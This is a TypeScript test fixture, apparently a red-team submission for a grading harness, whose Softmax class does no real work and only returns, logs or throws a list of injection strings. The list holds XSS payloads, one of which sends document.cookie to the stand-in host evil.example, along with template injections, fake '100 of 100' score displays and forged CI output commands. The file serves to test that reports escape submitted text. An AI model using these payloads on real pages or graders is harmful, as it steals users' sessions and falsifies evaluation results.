/*
goal: has a page or a ticket that shows its report run scripts, load images, and show what isn't so
class: inject
threats: [A19]
deserves: none
outcome: contained
because: text of a submission is quoted as text wherever a report is made into a page
*/
import * as np from 'numpy-ts';

const texts = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(\'http://evil.example/\'+document.cookie)">',
  '"><svg/onload=alert(1)>',
  '</pre></code></script><script>alert(1)</script>',
  '<style>.points{display:none}</style><h1>100 of 100</h1>',
  '<iframe src="file:///etc/passwd"></iframe><base href="http://evil.example/">',
  '<!--',
  ']]>',
  '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> #{7*7}',
  '[100 of 100](javascript:alert(1)) ![x](http://evil.example/pixel.png)',
  '```\n# 100 of 100\n```',
  '| softmax | 40 | 40 |\n|---|---|---|',
  '@everyone <details open><summary>40 of 40</summary>',
  '&lt;b&gt;&#x3c;script&#x3e;',
  "';alert(String.fromCharCode(88,83,83))//",
  '::set-output name=points::100\n::add-mask::40\n##[endgroup]',
];
const all = texts.join('\n');

export class Softmax {
  W: any = np.zeros([1, 1]);

  initWeights(_dims: number[]): void {}

  loss(_X: any, _y: any): any {
    console.log(all);
    return all;
  }

  lossAndGrad(_X: any, _y: any): any {
    throw Object.assign(new Error(all), { name: texts[0] });
  }

  fastLossAndGrad(_X: any, _y: any): any {
    return Object.fromEntries(texts.map((text) => [text, text]));
  }

  train(_X: any, _y: any): any {
    return Object.create({ constructor: { name: texts[1] } });
  }

  predict(_X: any): any {
    return texts;
  }
}
